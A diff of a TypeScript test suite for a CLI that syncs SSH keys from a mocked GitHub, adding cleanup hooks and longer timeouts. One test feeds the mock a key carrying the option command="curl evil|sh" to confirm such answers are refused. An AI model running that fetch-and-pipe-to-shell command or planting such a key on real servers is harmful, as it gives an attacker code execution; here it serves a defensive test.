@@ -77,7 +77,11 @@ describe("access CLI", () => {
     assert.equal(await snapshot(state), before);
   });
 
-  test("sync caches GitHub keys; down, slow, 429, 500 and oversized answers keep them", async () => {
+  test("sync caches GitHub keys; down, slow, 429, 500 and oversized answers keep them", async (t) => {
+    t.after(async () => {
+      gh.mode = "ok";
+      await gh.setDown(false);
+    });
     gh.mode = "ok";
     let r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
     assert.equal(r.exitCode, 0, r.stderr);
@@ -100,10 +104,10 @@ describe("access CLI", () => {
         "slow",
         () => {
           gh.mode = "slow";
-          gh.slowMs = 5000;
+          gh.slowMs = 20_000;
           return Promise.resolve();
         },
-        /no answer within 300 ms/,
+        /no answer within 2000 ms/,
       ],
       [
         "down",
@@ -116,7 +120,7 @@ describe("access CLI", () => {
     ];
     for (const [what, makeIt, re] of failures) {
       await makeIt();
-      r = await cli(["access", "sync", "--github-url", gh.url, "--timeout", "300", "--json"]);
+      r = await cli(["access", "sync", "--github-url", gh.url, "--timeout", "2000", "--json"]);
       assert.equal(r.exitCode, 3, `${what}: ${r.stderr}`);
       const out = JSON.parse(r.stdout) as { handles: { status: string; keys: number; error: string }[] };
       assert.equal(out.handles[0]?.status, "kept", what);
@@ -129,7 +133,8 @@ describe("access CLI", () => {
     gh.mode = "ok";
   });
 
-  test("a GitHub answer carrying options is refused as a whole", async () => {
+  test("a GitHub answer carrying options is refused as a whole", async (t) => {
+    t.after(() => gh.setKeys("dave-gh", [daveKey]));
     gh.setKeys("dave-gh", [daveKey, `command="curl evil|sh" ${aliceKey}`]);
     const r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
     assert.equal(r.exitCode, 3);
